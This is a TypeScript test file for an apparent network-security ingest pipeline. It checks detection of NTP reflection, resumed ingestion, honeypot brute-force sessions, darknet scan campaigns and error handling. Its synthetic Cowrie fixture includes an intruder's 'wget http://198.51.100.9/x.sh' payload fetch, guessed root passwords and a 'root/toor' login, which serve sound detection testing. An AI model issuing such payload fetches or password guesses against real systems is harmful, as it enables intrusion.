// Files to findings over the real embedded store: what is asserted, what a second and a broken reading do.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Proposal } from '#analyse/indicators/propose.ts';
import { ethernet, ip4, pcap, tcp, udp } from '#model/packet/craft.ts';
import type { Incident } from '#model/record/incident.ts';
import { openEventStore } from '#store/events/clickhouse.ts';
import { type StoreProcess, spawnStore } from '#store/events/embedded/spawn.ts';
import type { EventStore } from '#store/events/port.ts';
import { incidents as incidentRecords } from '#store/records/collections.ts';
import { openRecords, type Records } from '#store/records/records.ts';
import { createEnricher } from '#watch/enrich/enricher.ts';
import { type IngestDeps, ingestInput, registerInput } from './run.ts';

let folder: string;
let engine: StoreProcess;
let store: EventStore;
let records: Records;
let deps: IngestDeps;
const proposals: Proposal[] = [];
const raised: Incident[] = [];

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'hinomi-ingest-'));
  engine = await spawnStore(join(folder, 'store'));
  store = await openEventStore({ socketPath: engine.socketPath, retentionDays: 3650 });
  records = await openRecords({ sqliteFile: join(folder, 'records.sqlite') });
  deps = {
    store,
    records,
    enricher: await createEnricher(),
    clock: Date.now,
    inputsFolder: join(folder, 'inputs'),
    propose: async more => void proposals.push(...more),
    raise: async incident => void raised.push(incident),
    publish: () => {},
  };
}, 120_000);

afterAll(async () => {
  await store?.close();
  await records?.close();
  await engine?.stop();
  rmSync(folder, { recursive: true, force: true });
});

const take = async (
  file: string,
  format: string,
  vantage: 'victim' | 'darknet' | 'honeypot' | 'unknown',
  over: Partial<IngestDeps> = {},
) => ingestInput(await registerInput({ file, format, vantage, by: 'test' }, deps), { ...deps, ...over });

const count = async (where: string): Promise<number> =>
  Number((await store.query<{ n: number }>(`SELECT count() AS n FROM events WHERE ${where}`))[0]?.n);

const start = 1_700_000_000;
const frame = (packet: Uint8Array) => ethernet(0x0800, packet);

/** 300 NTP servers answer one host they were never asked by, 5 packets each in 20 s. */
const ntpReflection = pcap(
  Array.from({ length: 1500 }, (_, index) => {
    const answer = new Uint8Array(468);
    answer.set([0xd7, 0x00, 0x03, 0x2a]); // mode 7, response, monlist
    return {
      time: start + index / 75,
      frame: frame(
        ip4(
          `198.51.${index % 100}.${1 + (index % 3)}`,
          '203.0.113.77',
          17,
          udp(123, 40_000 + (index % 50), answer),
        ),
      ),
    };
  }),
);

test('a reflection at the victim: the right victim, protocol, count and rate; an incident; alerts asked for', async () => {
  const file = join(folder, 'ntp.pcap');
  writeFileSync(file, ntpReflection);
  const { input, analysis } = await take(file, 'auto', 'victim');
  expect(input).toMatchObject({
    status: 'done',
    format: 'pcap',
    records: 1500,
    skippedCount: 0,
    classes: { 'reflected-response': 1500 },
  });
  const finding = analysis!.findings.find(entry => entry.detector === 'reflection-victim')!;
  expect(finding.subjects).toEqual([{ role: 'victim', type: 'ip', value: '203.0.113.77' }]);
  expect(finding.protocol).toBe('ntp');
  expect(finding.evidence.packets).toBe(1500);
  expect(finding.start).toBe(start * 1000);
  expect(finding.rate!.mean).toBeCloseTo(1500 / 19.987, 0);
  expect(analysis!.incidents).toHaveLength(1);
  expect(analysis!.incidents[0]).toMatchObject({ findings: [finding.id], severity: finding.severity });
  expect(raised.map(incident => incident.id)).toContain(analysis!.incidents[0]!.id);
  // The query the finding carries finds its evidence again.
  const again = await store.analystQuery(finding.evidence.query);
  expect(again.rows.length).toBe(finding.evidence.count);
  // A victim is never proposed for a block list.
  expect(proposals.filter(proposal => proposal.finding === finding.id)).toEqual([]);
});

test('the same file again is the same input: nothing is stored or found twice', async () => {
  const before = await count('1');
  const { input } = await take(join(folder, 'ntp.pcap'), 'auto', 'victim');
  expect(input.status).toBe('done');
  expect(await count('1')).toBe(before);
  expect(await records.collection(incidentRecords).count()).toBe(1);
});

test('a reading that broke off is taken up again, each event stored once', async () => {
  const lines = Array.from({ length: 60_000 }, (_, index) =>
    JSON.stringify({
      ts: start + index / 1000,
      uid: `U${index}`,
      'id.orig_h': '192.0.2.1',
      'id.orig_p': 1,
      'id.resp_h': '192.0.2.2',
      'id.resp_p': 2,
      proto: 'tcp',
    }),
  );
  const file = join(folder, 'conn.log');
  writeFileSync(file, lines.join('\n'));
  let inserted = 0;
  const breaking: EventStore = Object.assign(Object.create(store) as EventStore, {
    insertEvents: async (events: Parameters<EventStore['insertEvents']>[0], token: string) => {
      // The first block is stored, then the store is gone.
      if (inserted++ > 0) throw new Error('the store went away');
      await store.insertEvents(events, token);
    },
  });
  await expect(take(file, 'zeek', 'unknown', { store: breaking })).rejects.toThrow('went away');
  const half = await count("`event.module` = 'zeek'");
  expect(half).toBeGreaterThan(0);
  expect(half).toBeLessThan(60_000);
  const { input } = await take(file, 'zeek', 'unknown');
  expect(input).toMatchObject({ status: 'done', records: 60_000, events: 60_000 });
  expect(await count("`event.module` = 'zeek'")).toBe(60_000);
  expect(
    await count(
      "`event.module` = 'zeek' AND `event.id` NOT IN (SELECT `event.id` FROM events GROUP BY `event.id` HAVING count() = 1)",
    ),
  ).toBe(0);
});

test('guessed logins in a honeypot log become a finding, its attacker a proposal, and a break-in an incident of its own', async () => {
  const record = (eventid: string, second: number, more: object) =>
    JSON.stringify({
      eventid,
      timestamp: new Date((start + 86_400 * 30 + second) * 1000).toISOString(),
      src_ip: '203.0.113.200',
      src_port: 5555,
      dst_ip: '192.0.2.22',
      dst_port: 2222,
      session: 'abc123',
      protocol: 'ssh',
      sensor: 'cowrie-1',
      ...more,
    });
  const lines = [
    record('cowrie.session.connect', 0, {}),
    ...Array.from({ length: 12 }, (_, index) =>
      record('cowrie.login.failed', 1 + index, { username: 'root', password: `p${index}` }),
    ),
    record('cowrie.login.success', 20, { username: 'root', password: 'toor' }),
    record('cowrie.command.input', 21, { input: 'wget http://198.51.100.9/x.sh' }),
    record('cowrie.session.file_download', 22, { url: 'http://198.51.100.9/x.sh', shasum: 'ab'.repeat(32) }),
  ];
  const file = join(folder, 'cowrie.json');
  writeFileSync(file, `${lines.join('\n')}\n`);
  const { input, analysis } = await take(file, 'auto', 'honeypot');
  expect(input).toMatchObject({ format: 'cowrie', skippedCount: 0 });
  const detectors = analysis!.findings.map(finding => finding.detector);
  for (const detector of ['brute-force', 'intrusion-session', 'captured-file'])
    expect(detectors).toContain(detector);
  const guessing = analysis!.findings.find(finding => finding.detector === 'brute-force')!;
  expect(guessing.evidence.count).toBe(13);
  expect(guessing.techniques).toEqual(['T1110.001', 'T1078']);
  expect(proposals.map(proposal => proposal.value)).toContain('203.0.113.200');
  // All of it is one intruder: one incident.
  expect(
    new Set(analysis!.findings.filter(finding => finding.incident).map(finding => finding.incident)).size,
  ).toBe(1);
});

test('three sources with one port set on a darknet are a campaign', async () => {
  const packets = ['198.51.100.10', '198.51.100.11', '198.51.100.12'].flatMap((source, who) =>
    Array.from({ length: 80 }, (_, index) => ({
      time: start + 86_400 * 60 + index / 4 + who / 50,
      frame: frame(
        ip4(
          source,
          `203.0.113.${index + 1}`,
          6,
          tcp(40_000 + who, index % 2 ? 2323 : 23, 2, { sequence: 1000 + index * 77 }),
        ),
      ),
    })),
  );
  const file = join(folder, 'darknet.pcap');
  writeFileSync(file, pcap([...packets].sort((a, b) => a.time - b.time)));
  const { analysis } = await take(file, 'pcap', 'darknet');
  expect(analysis!.campaigns).toHaveLength(1);
  expect(analysis!.campaigns[0]).toMatchObject({
    sources: 3,
    shared: { ports: ['23', '2323'] },
    packets: 240,
  });
  const scans = analysis!.findings.filter(finding => finding.detector === 'scan');
  expect(scans).toHaveLength(3);
  for (const scan of scans) expect(scan.campaign).toBe(analysis!.campaigns[0]!.id);
});

test('what cannot be read is an account with the reason, not a crash', async () => {
  const file = join(folder, 'empty.pcap');
  writeFileSync(file, '');
  const { input } = await take(file, 'pcap', 'unknown');
  expect(input.status).toBe('failed');
  expect(input.error).not.toBe('');
  await expect(
    registerInput({ file: join(folder, 'none'), format: 'auto', vantage: 'unknown', by: 'test' }, deps),
  ).rejects.toMatchObject({ code: 'INPUT_UNREADABLE' });
});

test.each(['pcap', 'log'])(
  'a disk without room fails a %s with the reason, and it can come again',
  async kind => {
    const file = join(folder, `full.${kind}`);
    writeFileSync(
      file,
      kind === 'log'
        ? 'Nov 20 10:00:00 host sshd[1]: Failed password for root from 192.0.2.77 port 22 ssh2\n'
        : pcap([
            {
              time: start + 5e6,
              frame: frame(ip4('192.0.2.77', '198.51.100.1', 17, udp(1, 2, new Uint8Array(4)))),
            },
          ]),
    );
    const { input } = await take(file, 'auto', 'unknown', { reserve: 2 ** 60 });
    expect(input).toMatchObject({ status: 'failed', error: expect.stringContaining('no room') });
    expect((await take(file, 'auto', 'unknown')).input).toMatchObject({ status: 'done', events: 1 });
  },
);

test('a reason names the file, not where it lies', async () => {
  const file = join(folder, 'secret-place.log');
  writeFileSync(file, 'x');
  const waiting = await registerInput(
    { file, name: 'mine.log', format: 'pcap', vantage: 'unknown', by: 'x' },
    deps,
  );
  rmSync(file);
  const { input } = await ingestInput(waiting, deps);
  expect(input.status).toBe('failed');
  expect(input.error).toContain('mine.log');
  expect(input.error).not.toContain(folder);
});
